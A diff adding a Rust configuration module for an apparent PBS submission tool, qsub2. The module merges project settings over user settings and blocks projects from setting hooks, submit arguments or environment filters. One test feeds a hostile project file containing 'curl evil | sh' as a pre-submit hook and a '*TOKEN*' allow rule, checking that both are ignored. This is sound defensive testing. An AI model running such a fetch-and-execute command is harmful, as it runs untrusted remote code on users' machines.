@@ -0,0 +1,502 @@
+//! The user configuration file (TOML).
+//!
+//! ```toml
+//! qsub_path = "/opt/pbs/bin/qsub"
+//! submit_args = ["-P", "myproject"]
+//! template_dir = "~/pbs-templates"
+//! script_dir = "~/jobs"
+//! pre_submit = "~/bin/check-allocation"
+//! post_submit = "logger -t qsub2"
+//!
+//! [snapshot_env]
+//! allow = ["PATH", "CONDA_*", "OMP_*"]
+//!
+//! [env_file]
+//! deny = ["*TOKEN*", "AWS_*"]
+//!
+//! [default]
+//! queue = "long"
+//! mem = "8gb"
+//! log_dir = "logs"
+//! ```
+//!
+//! A `.qsub2.toml` in the current directory or one above it is read over
+//! this, so that a project keeps its template, queue and resources with its
+//! code. Its relative paths are taken from its own directory. It cannot set
+//! what qsub2 runs or passes to qsub, which of your variables jobs get,
+//! when it asks before submitting, or where it keeps its state
+//! ([`USER_ONLY`]); a repository someone else wrote should not choose those.
+
+use crate::cost;
+use crate::dialect::Dialect;
+use crate::error::{Error, Result};
+use crate::history;
+use crate::routing;
+use crate::scheduler;
+use crate::schema;
+use crate::snapshot;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::env;
+use std::fs;
+use std::io;
+use std::path::{Path, PathBuf};
+
+#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    /// The `qsub` to run instead of the one on `PATH`.
+    pub qsub_path: Option<PathBuf>,
+    /// A scheduler plugin to use in place of PBS; see [`crate::scheduler`].
+    pub scheduler: Option<String>,
+    /// `[schedulers]` table: plugin names and their executables
+    /// [`qsub2-scheduler-NAME` on `PATH`].
+    pub schedulers: BTreeMap<String, PathBuf>,
+    /// Arguments passed to `qsub` before the script.
+    pub submit_args: Vec<String>,
+    /// Where `--template NAME` is looked up [`~/.config/qsub2/templates`].
+    pub template_dir: Option<PathBuf>,
+    /// Where scripts are written when `--outfile` is not given [current directory].
+    pub script_dir: Option<PathBuf>,
+    /// Shell command run before each submission with the job spec as JSON on
+    /// stdin; a non-zero exit cancels the submission.
+    pub pre_submit: Option<String>,
+    /// Shell command run after each submission with the history record as JSON on stdin.
+    pub post_submit: Option<String>,
+    /// Always behave as if `--require-clean-git` was given.
+    pub require_clean_git: bool,
+    /// Always behave as if `--sidecar` was given.
+    pub sidecar: bool,
+    /// Always behave as if `--preflight` was given.
+    pub preflight: bool,
+    /// The free space `--preflight` asks for, e.g. `10gb`.
+    pub min_free_space: Option<String>,
+    /// What the later `--segments` jobs run when `--restart-command` is not given.
+    pub restart_command: Option<String>,
+    /// The history file, e.g. one shared by a lab [`~/.local/share/qsub2/history.jsonl`].
+    pub history: Option<PathBuf>,
+    /// The Unix socket of `qsub2 serve --socket`, to submit through while it runs.
+    pub socket: Option<PathBuf>,
+    /// Where each submission is recorded, or `syslog`; see [`crate::audit`].
+    pub audit_log: Option<PathBuf>,
+    /// Refuse to submit when the audit log cannot be written.
+    pub audit_required: bool,
+    /// How many times a submission is tried again after qsub fails for a
+    /// reason that passes, such as a server restart [3].
+    pub submit_retries: Option<u32>,
+    /// Ask before `--submit` sends more jobs than this at once [100].
+    pub confirm_over: Option<usize>,
+    /// How long `qsub2 cluster` keeps what it learnt of the queues and nodes [5m].
+    pub cluster_cache_ttl: Option<String>,
+    /// Which queue a job goes to when `--queue` is not given; the first match wins.
+    pub routes: Vec<routing::Route>,
+    /// Which variables `--snapshot-env` saves.
+    pub snapshot_env: snapshot::Filter,
+    /// Which variables of an `--env-file` the job gets.
+    pub env_file: snapshot::Filter,
+    /// Rates for `--cost`.
+    pub cost: cost::Rates,
+    /// Used for options not given on the command line.
+    #[serde(rename = "default")]
+    pub defaults: Defaults,
+    /// `[queue.NAME]` tables, used over `[default]` for jobs sent to that queue.
+    #[serde(rename = "queue")]
+    pub queues: BTreeMap<String, QueueDefaults>,
+    /// `[preset.NAME]` tables, used over `[default]` with `--preset NAME`.
+    #[serde(rename = "preset")]
+    pub presets: BTreeMap<String, Preset>,
+}
+
+/// The `[default]` table.
+#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Defaults {
+    pub name: Option<String>,
+    pub ncpus: Option<u32>,
+    pub mem: Option<String>,
+    pub queue: Option<String>,
+    pub walltime: Option<String>,
+    pub template: Option<PathBuf>,
+    pub log_dir: Option<PathBuf>,
+    pub script_dialect: Option<Dialect>,
+}
+
+/// A `[queue.NAME]` table.
+#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct QueueDefaults {
+    pub ncpus: Option<u32>,
+    pub mem: Option<String>,
+    pub walltime: Option<String>,
+    pub template: Option<PathBuf>,
+}
+
+/// A `[preset.NAME]` table.
+#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Preset {
+    pub queue: Option<String>,
+    pub ncpus: Option<u32>,
+    pub mem: Option<String>,
+    pub walltime: Option<String>,
+    pub template: Option<PathBuf>,
+}
+
+/// `$QSUB2_CONFIG`, or `config.toml` in `$XDG_CONFIG_HOME/qsub2` (`~/.config/qsub2`).
+pub fn default_path() -> Option<PathBuf> {
+    if let Some(path) = env::var_os("QSUB2_CONFIG") {
+        return Some(PathBuf::from(path));
+    }
+    Some(config_dir()?.join("config.toml"))
+}
+
+/// The file a project keeps its settings in.
+pub const PROJECT_FILE: &str = ".qsub2.toml";
+
+/// Settings only the user configuration may have.
+const USER_ONLY: &[&str] = &[
+    "qsub_path",
+    "scheduler",
+    "schedulers",
+    "pre_submit",
+    "post_submit",
+    "restart_command",
+    "history",
+    "socket",
+    "audit_log",
+    "audit_required",
+    "submit_args",
+    "snapshot_env",
+    "env_file",
+    "confirm_over",
+];
+
+/// The nearest `.qsub2.toml` in `dir` or a directory above it.
+pub fn find_project(dir: &Path) -> Option<PathBuf> {
+    dir.ancestors()
+        .map(|d| d.join(PROJECT_FILE))
+        .find(|p| p.is_file())
+}
+
+/// Tables are merged key by key; anything else in `over` replaces `base`.
+fn merge(base: &mut toml::Table, over: toml::Table) {
+    for (key, value) in over {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(over)) => merge(base, over),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// `$XDG_CONFIG_HOME/qsub2`, or `~/.config/qsub2`.
+pub fn config_dir() -> Option<PathBuf> {
+    let config_home = match env::var_os("XDG_CONFIG_HOME") {
+        Some(dir) => PathBuf::from(dir),
+        None => history::home_dir()?.join(".config"),
+    };
+    Some(config_home.join("qsub2"))
+}
+
+/// `~/x` -> `$HOME/x`
+fn expand_home(path: &Path) -> PathBuf {
+    match (path.strip_prefix("~"), history::home_dir()) {
+        (Ok(rest), Some(home)) => home.join(rest),
+        _ => path.to_path_buf(),
+    }
+}
+
+impl Config {
+    /// Read the configuration; a missing file means the built-in defaults.
+    pub fn load(path: &Path) -> Result<Self> {
+        match fs::read_to_string(path) {
+            Ok(content) => {
+                Self::parse(&content).map_err(|message| Error::Config(path.to_path_buf(), message))
+            }
+            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(Config::default()),
+            Err(e) => Err(Error::Config(path.to_path_buf(), e.to_string())),
+        }
+    }
+
+    /// This configuration with the project file at `path` over it.
+    pub fn with_project(self, path: &Path) -> Result<Self> {
+        let invalid = |message: String| Error::Config(path.to_path_buf(), message);
+        let content = fs::read_to_string(path).map_err(|e| invalid(e.to_string()))?;
+        let dir = path.parent().unwrap_or(Path::new("."));
+        let dir = std::path::absolute(dir).map_err(|e| invalid(e.to_string()))?;
+        self.with_project_content(&content, &dir).map_err(invalid)
+    }
+
+    /// [`Config::with_project`] for the `content` of a file in `dir`.
+    fn with_project_content(self, content: &str, dir: &Path) -> std::result::Result<Self, String> {
+        // for the messages a file of its own gets
+        Self::parse(content)?;
+        let mut project: toml::Table = toml::from_str(content).map_err(|e| e.to_string())?;
+        for key in USER_ONLY {
+            if project.remove(*key).is_some() {
+                log::warn!(
+                    "{} in {} is ignored; only your own configuration may set it",
+                    key,
+                    PROJECT_FILE
+                );
+            }
+        }
+        // a directory always, a template when it is a path rather than a name
+        let rebase = |value: &mut toml::Value, always: bool| {
+            if let toml::Value::String(s) = value {
+                let path = Path::new(s.as_str());
+                if path.is_relative()
+                    && !s.starts_with('~')
+                    && (always || path.components().count() > 1)
+                {
+                    *s = dir.join(path).display().to_string();
+                }
+            }
+        };
+        for key in ["template_dir", "script_dir"] {
+            if let Some(value) = project.get_mut(key) {
+                rebase(value, true);
+            }
+        }
+        if let Some(template) = project
+            .get_mut("default")
+            .and_then(|d| d.get_mut("template"))
+        {
+            rebase(template, false);
+        }
+        for key in ["queue", "preset"] {
+            let Some(toml::Value::Table(tables)) = project.get_mut(key) else {
+                continue;
+            };
+            for (_, table) in tables.iter_mut() {
+                if let Some(template) = table.get_mut("template") {
+                    rebase(template, false);
+                }
+            }
+        }
+        let mut merged = toml::Table::try_from(&self).map_err(|e| e.to_string())?;
+        merge(&mut merged, project);
+        Self::parse(&toml::to_string(&merged).map_err(|e| e.to_string())?)
+    }
+
+    pub fn template_dir(&self) -> Option<PathBuf> {
+        match self.template_dir {
+            Some(ref dir) => Some(expand_home(dir)),
+            None => Some(config_dir()?.join("templates")),
+        }
+    }
+
+    pub fn script_dir(&self) -> Option<PathBuf> {
+        self.script_dir.as_deref().map(expand_home)
+    }
+
+    pub fn history(&self) -> Option<PathBuf> {
+        self.history.as_deref().map(expand_home)
+    }
+
+    pub fn socket(&self) -> Option<PathBuf> {
+        self.socket.as_deref().map(expand_home)
+    }
+
+    pub fn audit_log(&self) -> Option<PathBuf> {
+        self.audit_log.as_deref().map(expand_home)
+    }
+
+    /// The plugin `scheduler` names, if it names one.
+    pub fn scheduler_plugin(&self) -> Option<scheduler::Plugin> {
+        let name = self.scheduler.as_deref().filter(|&s| s != "pbs")?;
+        let program = match self.schedulers.get(name) {
+            Some(program) => expand_home(program),
+            None => scheduler::Plugin::default_program(name),
+        };
+        Some(scheduler::Plugin {
+            name: name.to_string(),
+            program,
+        })
+    }
+
+    /// Put `[preset.NAME]` over `[default]`.
+    pub fn apply_preset(&mut self, name: &str) -> Result<()> {
+        let preset =
+            self.presets.get(name).cloned().ok_or_else(|| {
+                Error::Usage(format!("no [preset.{}] in the configuration", name))
+            })?;
+        let defaults = &mut self.defaults;
+        defaults.queue = preset.queue.or(defaults.queue.take());
+        defaults.ncpus = preset.ncpus.or(defaults.ncpus);
+        defaults.mem = preset.mem.or(defaults.mem.take());
+        defaults.walltime = preset.walltime.or(defaults.walltime.take());
+        defaults.template = preset.template.or(defaults.template.take());
+        Ok(())
+    }
+
+    /// A `--template` that is not an existing file is looked up in the
+    /// template directory, with or without a `.sh` extension.
+    pub fn resolve_template(&self, template: &Path) -> PathBuf {
+        if template.exists() || template.components().count() > 1 {
+            return template.to_path_buf();
+        }
+        if let Some(dir) = self.template_dir() {
+            for candidate in [dir.join(template), dir.join(template).with_extension("sh")] {
+                if candidate.is_file() {
+                    return candidate;
+                }
+            }
+        }
+        template.to_path_buf()
+    }
+
+    fn parse(content: &str) -> std::result::Result<Self, String> {
+        toml::from_str(content).map_err(|e| schema::toml_error(&e, content))
+    }
+
+    /// The value at a dotted `key` such as `default.queue`, as TOML.
+    pub fn get(&self, key: &str) -> Option<String> {
+        let table = toml::Table::try_from(self).ok()?;
+        let mut value = table.get(key.split('.').next()?)?;
+        for part in key.split('.').skip(1) {
+            value = value.as_table()?.get(part)?;
+        }
+        Some(match value {
+            toml::Value::String(s) => s.clone(),
+            other => other.to_string(),
+        })
+    }
+}
+
+/// The line of `path` that sets a dotted `key` such as `default.queue`,
+/// counting from 1. Only `[table]` headers and `key = value` lines are recognized.
+pub fn line_of(path: &Path, key: &str) -> Option<usize> {
+    let content = fs::read_to_string(path).ok()?;
+    let (table, name) = key.rsplit_once('.').unwrap_or(("", key));
+    let mut current = String::new();
+    for (number, line) in content.lines().enumerate() {
+        let line = line.trim();
+        if let Some(header) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
+            current = header.trim().to_string();
+        } else if let Some((k, _)) = line.split_once('=') {
+            if current == table && k.trim().trim_matches('"') == name {
+                return Some(number + 1);
+            }
+        }
+    }
+    None
+}
+
+/// Set `key` to `value` in the file at `path`, keeping its other settings.
+/// `value` is read as TOML (`4`, `["-P", "lab"]`) and otherwise taken as a string.
+pub fn set(path: &Path, key: &str, value: &str) -> Result<()> {
+    let invalid = |message: String| Error::Config(path.to_path_buf(), message);
+    let content = match fs::read_to_string(path) {
+        Ok(content) => content,
+        Err(e) if e.kind() == io::ErrorKind::NotFound => String::new(),
+        Err(e) => return Err(invalid(e.to_string())),
+    };
+    let mut table: toml::Table = toml::from_str(&content).map_err(|e| invalid(e.to_string()))?;
+
+    let parts: Vec<&str> = key.split('.').collect();
+    let (last, parents) = parts.split_last().expect("split returns at least one part");
+    let mut current = &mut table;
+    for part in parents {
+        current = current
+            .entry(part.to_string())
+            .or_insert_with(|| toml::Value::Table(toml::Table::new()))
+            .as_table_mut()
+            .ok_or_else(|| invalid(format!("{} is not a table", part)))?;
+    }
+    let value = value
+        .parse::<toml::Value>()
+        .unwrap_or_else(|_| toml::Value::String(value.to_string()));
+    current.insert(last.to_string(), value);
+
+    let content = toml::to_string(&table).map_err(|e| invalid(e.to_string()))?;
+    // Refuse unknown keys and wrong types instead of writing a file that no longer loads.
+    Config::parse(&content).map_err(|message| invalid(format!("{}: {}", key, message)))?;
+    if let Some(parent) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
+        fs::create_dir_all(parent).map_err(|e| invalid(e.to_string()))?;
+    }
+    fs::write(path, content).map_err(|e| invalid(e.to_string()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse() {
+        let config =
+            Config::parse("qsub_path = \"/opt/pbs/bin/qsub\"\nsubmit_args = [\"-P\", \"lab\"]\n")
+                .unwrap();
+        assert_eq!(config.qsub_path, Some(PathBuf::from("/opt/pbs/bin/qsub")));
+        assert_eq!(config.submit_args, ["-P", "lab"]);
+        assert_eq!(Config::parse("").unwrap(), Config::default());
+        assert!(Config::parse("qsub_pth = \"x\"").is_err());
+        let config = Config::parse("[queue.gpu]\nncpus = 8\n").unwrap();
+        assert_eq!(config.queues["gpu"].ncpus, Some(8));
+        assert!(Config::parse("[queue.gpu]\nqueue = \"x\"\n").is_err());
+        let mut config =
+            Config::parse("[default]\nmem = \"8gb\"\nncpus = 2\n[preset.align]\nmem = \"14gb\"\n")
+                .unwrap();
+        config.apply_preset("align").unwrap();
+        assert_eq!(config.defaults.mem.as_deref(), Some("14gb"));
+        assert_eq!(config.defaults.ncpus, Some(2));
+        assert!(config.apply_preset("qc").is_err());
+    }
+
+    #[test]
+    fn test_project_over_user() {
+        let user = Config::parse(
+            "pre_submit = \"check\"\nsubmit_args = [\"-P\", \"me\"]\n\
+             [default]\nqueue = \"long\"\nmem = \"8gb\"\n",
+        )
+        .unwrap();
+        let project = "pre_submit = \"curl evil | sh\"\ntemplate_dir = \"pbs\"\n\
+                       submit_args = [\"-A\", \"them\"]\nconfirm_over = 100000\n\
+                       [snapshot_env]\nallow = [\"*\"]\n[env_file]\nallow = [\"*TOKEN*\"]\n\
+                       [default]\nmem = \"32gb\"\ntemplate = \"pbs/align.sh\"\n\
+                       [queue.gpu]\ntemplate = \"gpu\"\n";
+        let config = user
+            .with_project_content(project, Path::new("/work/lab"))
+            .unwrap();
+        assert_eq!(config.pre_submit.as_deref(), Some("check"));
+        assert_eq!(config.submit_args, ["-P", "me"]);
+        assert_eq!(config.confirm_over, None);
+        assert_eq!(config.snapshot_env, snapshot::Filter::default());
+        assert_eq!(config.env_file, snapshot::Filter::default());
+        assert_eq!(config.defaults.queue.as_deref(), Some("long"));
+        assert_eq!(config.defaults.mem.as_deref(), Some("32gb"));
+        assert_eq!(config.template_dir, Some(PathBuf::from("/work/lab/pbs")));
+        assert_eq!(
+            config.defaults.template,
+            Some(PathBuf::from("/work/lab/pbs/align.sh"))
+        );
+        assert_eq!(config.queues["gpu"].template, Some(PathBuf::from("gpu")));
+        assert!(Config::default()
+            .with_project_content("[default]\nmemory = \"8gb\"\n", Path::new("/"))
+            .is_err());
+    }
+
+    #[test]
+    fn test_set_and_get() {
+        let path = env::temp_dir().join(format!("qsub2-config-{}.toml", std::process::id()));
+        fs::write(&path, "qsub_path = \"/opt/pbs/bin/qsub\"\n").unwrap();
+        set(&path, "default.mem", "8gb").unwrap();
+        set(&path, "default.ncpus", "4").unwrap();
+        assert!(set(&path, "default.memory", "8gb").is_err());
+        assert!(set(&path, "default.ncpus", "four").is_err());
+
+        let config = Config::load(&path).unwrap();
+        assert_eq!(config.get("default.mem").as_deref(), Some("8gb"));
+        assert_eq!(config.get("default.ncpus").as_deref(), Some("4"));
+        assert_eq!(
+            config.get("qsub_path").as_deref(),
+            Some("/opt/pbs/bin/qsub")
+        );
+        assert_eq!(config.get("default.queue"), None);
+        assert_eq!(line_of(&path, "qsub_path"), Some(1));
+        assert!(line_of(&path, "default.ncpus").unwrap() > 1);
+        assert_eq!(line_of(&path, "default.queue"), None);
+        fs::remove_file(&path).unwrap();
+    }
+}